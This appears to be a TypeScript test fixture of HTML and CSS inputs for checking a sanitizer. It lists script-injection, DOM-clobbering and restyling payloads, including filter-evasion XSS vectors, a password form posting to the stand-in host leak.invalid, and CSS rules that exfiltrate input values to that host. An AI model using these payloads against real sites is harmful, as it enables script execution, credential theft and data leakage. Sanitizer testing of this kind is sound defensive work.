/** Elements that run, load, frame, post or restyle, and names that stand in the way of scripts. */

export const embeddings: string[] = [
  '<script>ran()</script>',
  '<script type=module>ran()</script>',
  '<script src=/\\leak.invalid/x.js></script><script src="\\\\leak.invalid\\x.js"></script>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<<script>ran()//<</script>',
  '<script>ran()',
  '</script><script>ran()</script>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.ran()&gt;"></iframe>',
  '<iframe sandbox="allow-same-origin allow-forms allow-scripts" src="http://leak.invalid/"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg=="></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">',
  '<base target=_top>',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<meta name=referrer content=unsafe-url>',
  '<form action="https://leak.invalid"><input name=password type=password><button>go</button></form>',
  '<form action=x method=post><input name=injected value=injected dirname=password><input type=submit></form>',
  '<div id=1><form id=foobar></form><button form=foobar formaction="javascript:ran()">x</button></div>',
  '<button command=show-modal commandfor=d>x</button><dialog id=d>y</dialog>',
  '<button popovertarget=p popovertargetaction=show>x</button><div id=p popover>y</div>',
  '<x-element onclick=ran()>x</x-element>',
  '<p is="x-y" onclick=ran()>x</p>',
  '<Annotation-XML onclick="ran()">x</Annotation-XML>',
  '<my-paragraph><span slot="my-text" onclick=ran()>x</span></my-paragraph>',
  '<input pattern=^((a+.)a)+$ value=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!>',
  '<svg><script>&#114;an()</script></svg>',
  '<svg><set attributeName=onmouseover to="ran()" /><animate attributeName=onunload to="ran()" /></svg>',
  `<svg><image style='filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>parent.ran()</script></svg>")'>`,
  '<svg><foreignObject><iframe src="javascript:parent.ran()"></iframe></foreignObject></svg>',
  '<svg><a xmlns:data-x="http://www.w3.org/1999/xlink" data-x:href="javascript:ran()"><text x=20 y=35>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran()</script></svg>#x" /></svg>',
];

const clobbered = [
  'createElement',
  'attributes',
  'parentNode',
  'nodeName',
  'setAttribute',
  'innerHTML',
  'childNodes',
  'constructor',
  '__proto__',
];

export const clobberings: string[] = [
  ...clobbered.flatMap((name) => [
    `<img src=/x.png name=${name}><a href=#x id=${name}>x</a>`,
    `<form onclick=ran()><input onfocus=ran() name=${name}><input name=${name}>x</form>`,
  ]),
  '<image name=body><image name=adoptNode>x<image name=firstElementChild><svg onload=ran()>',
  '<form id=f></form><input form=f name=firstElementChild>',
  '<form><form id=x><input name=attributes></form></form>',
  '<a id=x></a><a id=x name=y></a><form id=x name=y><input id=y></form>',
  '<div __proto__=x constructor=y hasOwnProperty=z toString=w>x</div>',
  '<iframe name=self srcdoc="<a id=x>"></iframe><iframe name=top></iframe>',
  '<html id=documentElement><head id=head><body id=body name=body>x',
  '<svg id=root></svg><math id=main></math><div id=root class="fixed inset-0">x</div>',
];

const css = [
  '*{x:\uFF45\uFF58\uFF50\uFF52\uFF45\uFF53\uFF53\uFF49\uFF4F\uFF4E(ran())}',
  '@\\69mport url(//leak.invalid/b.css);',
  '@import url(https://leak.invalid/c.css) layer(x);',
  '@font-face{font-family:y;src:url("//leak.invalid/font.svg#x") format("svg")} body{font:99px y}',
  'body{background:url(//leak.invalid/a.png)}',
  'body{background:\\75rl(//leak.invalid/b.png)}',
  'body{background:image-set("//leak.invalid/c.png" 1x)}',
  'body{cursor:url(//leak.invalid/d.cur),auto;list-style:url(//leak.invalid/e.png)}',
  'body{mask:url(//leak.invalid/f.svg#x);filter:url(//leak.invalid/g.svg#x);clip-path:url(//leak.invalid/h.svg#x)}',
  'input[value^=a]{background:url(//leak.invalid/?a)}',
  'body::before{content:url(//leak.invalid/i.png)}',
];

const styles = [
  'width:exp/**/ression(ran())',
  'background:url(javascript:ran())',
  'position:fixed;inset:0;z-index:99999;opacity:0',
  'clip-path:url(//leak.invalid/test3.svg#a);fill:url(#b);filter:url(#c);marker:url(#d);mask:url(#e)',
  'border-image:url(//leak.invalid/x.png) 1;--x:url(//leak.invalid/y.png)',
];

export const restylings: string[] = [
  ...css.map((text) => `<style>${text}</style>x`),
  '<p>x</p><svg><style>body{background:url(//leak.invalid/a.png)}</style></svg>',
  ...styles.map((style) => `<p style="${style}">x</p>`),
  '<svg><rect fill=white style="clip-path:url(//leak.invalid/test3.svg#a)" /><path d=M0,0 style="marker-start:url(//leak.invalid/test4.svg#a)" /></svg>',
  '<link rel="prefetch preload dns-prefetch preconnect prerender modulepreload icon manifest" href="//leak.invalid/">',
  '<font color=red size=7 face=x>x</font><center>y</center><div align=right class="fixed inset-0">z</div>',
  '<p data-x=1 aria-hidden=true role=dialog tabindex=1 hidden inert accesskey=x contenteditable>x</p>',
];
